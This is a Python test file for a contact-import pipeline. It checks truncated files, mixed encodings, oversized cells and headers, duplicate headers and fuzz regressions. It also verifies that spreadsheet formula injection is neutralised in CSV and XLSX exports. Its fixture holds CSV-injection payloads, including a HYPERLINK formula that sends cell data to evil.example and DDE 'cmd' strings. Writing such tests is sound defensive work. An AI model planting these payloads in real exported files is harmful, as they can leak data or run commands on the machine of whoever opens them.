"""The hostile inputs of issue 8 not covered by test_hostile_input.py: truncated files, mixed
encodings in one file, a 10 MB cell, a million-column header, duplicate headers, and formula
prefixes (=HYPERLINK(, +, -, @) neutralised in every CSV and XLSX file of an export. Plus the
inputs atheris found (fuzz/regressions/), kept as regression tests."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from dagster_project.cli import main
from pipelines.limits import Limits
from pipelines.reader import InputFileError, parse_contact_bytes, source_info
from pipelines.validate import canonical_columns, quarantine_reasons, split_rows

REGRESSIONS = Path(__file__).resolve().parents[1] / "fuzz" / "regressions"


def test_a_file_cut_inside_a_quoted_field_is_refused_not_folded_into_one_row():
    data = b'E-mail;Nom;Notes\na@b.fr;Dupont;"a note\nthat goes on\nc@d.fr;Roy;x\ne@f.fr;Lee;y'
    with pytest.raises(InputFileError, match="ends inside a quoted field that opens in record 2: it looks truncated"):
        parse_contact_bytes(data)
    # A quoted field over several lines that is closed is fine.
    table = parse_contact_bytes(b'E-mail;Notes\na@b.fr;"two\nlines"\nc@d.fr;x\n')
    assert table.num_rows == 2


def test_a_file_cut_mid_record_keeps_every_row():
    data = "E-mail;Nom;Société\na@b.fr;Dupont;ACME\nc@d.fr;Ro".encode()
    table = parse_contact_bytes(data)
    assert table.num_rows == 2 and table.column("src_2").to_pylist() == ["ACME", ""]  # padded, not dropped


def test_a_truncated_xlsx_is_a_clear_error():
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["E-mail", "Nom"])
    book.active.append(["a@b.fr", "Dupont"])
    buf = io.BytesIO()
    book.save(buf)
    with pytest.raises(InputFileError, match="the spreadsheet cannot be read"):
        parse_contact_bytes(buf.getvalue()[: len(buf.getvalue()) // 2])


def test_mixed_encodings_in_one_file_read_each_line_right():
    data = (
        "E-mail;Nom;Prénom\na@b.fr;Müller;Jürgen\n".encode("utf-8")
        + "c@d.fr;Lefèvre;Zoë\ne@f.fr;Groß;Sébastien\ni@j.fr;Côté;Hélène\ng@k.fr;Bœuf;Loïc\n".encode("cp1252")
        + "g@h.fr;Nuñez;José\n".encode("utf-8")
    )
    table = parse_contact_bytes(data)
    assert table.column("src_1").to_pylist() == ["Müller", "Lefèvre", "Groß", "Côté", "Bœuf", "Nuñez"]
    assert table.column("src_2").to_pylist() == ["Jürgen", "Zoë", "Sébastien", "Hélène", "Loïc", "José"]
    assert source_info(table).encoding == "cp1252"  # the encoding most lines use
    # Plain cp1252 files are still read as cp1252, whole.
    assert source_info(parse_contact_bytes("E-mail;Nom\na@b.fr;Lefèvre\n".encode("cp1252"))).encoding == "cp1252"


def test_a_10_mb_cell_quarantines_its_row_and_keeps_the_others():
    data = b"E-mail;Notes\na@b.fr;fine\nc@d.fr;" + b"x" * (10 * 2**20) + b"\ne@f.fr;ok\n"
    table = parse_contact_bytes(data, Limits())
    assert table.num_rows == 3
    info = source_info(table)
    reasons = quarantine_reasons(table, canonical_columns(table, info), max_cell_chars=Limits().max_cell_chars).to_pylist()
    assert reasons[0] is None and reasons[2] is None
    assert "longer than 32,767 characters" in reasons[1]
    validated, quarantined = split_rows(table, info)
    assert validated.num_rows + quarantined.num_rows == 3


def test_a_million_column_header_is_refused_quickly():
    header = ";".join(f"c{i}" for i in range(1_000_000))
    with pytest.raises(InputFileError, match=r"1,000,000 fields, more than the 1,000 columns allowed \(REFINERY_MAX_COLUMNS\)"):
        parse_contact_bytes((header + "\na@b.fr\n").encode(), Limits())


def test_duplicate_headers_keep_every_column():
    table = parse_contact_bytes("Email;Email;Nom;Nom;Prénom\na@b.fr;c@d.fr;X;Y;Z\n".encode())
    info = source_info(table)
    assert info.headers == ["Email", "Email (2)", "Nom", "Nom (2)", "Prénom"]
    assert info.fields["email"] == 0 and info.fields["last_name"] == 2  # the first one feeds the field
    assert table.column("src_1").to_pylist() == ["c@d.fr"] and table.column("src_3").to_pylist() == ["Y"]


def test_fuzz_regressions_give_an_input_error_not_a_crash():
    found = sorted(REGRESSIONS.glob("reader-*"))
    assert found
    for path in found:
        try:
            parse_contact_bytes(path.read_bytes(), Limits(max_file_bytes=2**20, max_rows=1000, max_columns=200))
        except InputFileError:
            pass


# Formula starts in fields that survive standardisation as text (company, job title, a custom
# column), on two records of one person, so they reach contacts, golden, duplicates and the merge
# audit (job titles are standardised: their formula start goes with the junk).
HOSTILE = (
    "Prénom;Nom;Société;E-mail;Téléphone;Fonction;Commentaire\n"
    'Jean;Dupont;=HYPERLINK("http://evil.example/?d="&A1,"clic");jean.dupont@acme.fr;06 12 34 56 78;+cmd|calc;-2+3\n'
    'Jean;Dupont;=HYPERLINK("http://evil.example/?d="&A1,"clic");jean.dupont@acme.fr;06 12 34 56 78;+cmd|calc;@SUM(A1:A9)\n'
    "Anne;Roy;@Roy Conseil;anne.roy@roy-conseil.fr;06 11 22 33 44;-Directrice;=1+1\n"
    "Anne;Roi;@Roy Conseil;;06 11 22 33 44;-Directrice;+cmd|' /C calc'!A0\n"
)
_DANGEROUS = ("=", "+", "-", "@")


def _csv_cells(path: Path) -> list[str]:
    frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    return [str(c) for c in frame.columns] + [v for col in frame.columns for v in frame[col]]


def _is_plain_number(value: str) -> bool:
    return value.lstrip("+-").replace(" ", "").replace(".", "").replace(",", "").isdigit()


def test_formula_prefixes_are_neutralised_in_every_csv_and_xlsx_export(tmp_path):
    src = tmp_path / "hostile.csv"
    src.write_text(HOSTILE, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(src), "--controller", "hostile", "--out", str(out)]) == 0
    reached = set()
    for name in ("contacts.csv", "golden.csv", "duplicates.csv", "merge_audit.csv", "review.csv"):
        cells = _csv_cells(out / name)
        bad = [c for c in cells if c.startswith(_DANGEROUS) and not _is_plain_number(c)]
        assert not bad, (name, bad)
        if any(c.startswith("'=HYPERLINK(") for c in cells):
            reached.add(name)
    assert {"contacts.csv", "golden.csv", "duplicates.csv"} <= reached  # the hostile values did get there
    contacts = _csv_cells(out / "contacts.csv")
    assert {"'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'@Roy Conseil"} <= set(contacts)
    book = load_workbook(out / "duplicates.xlsx")
    values = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert values and all(c.data_type != "f" for c in values)  # no formula cells at all
    assert not [c.value for c in values if isinstance(c.value, str) and c.value.startswith(_DANGEROUS)
                and not _is_plain_number(c.value)]
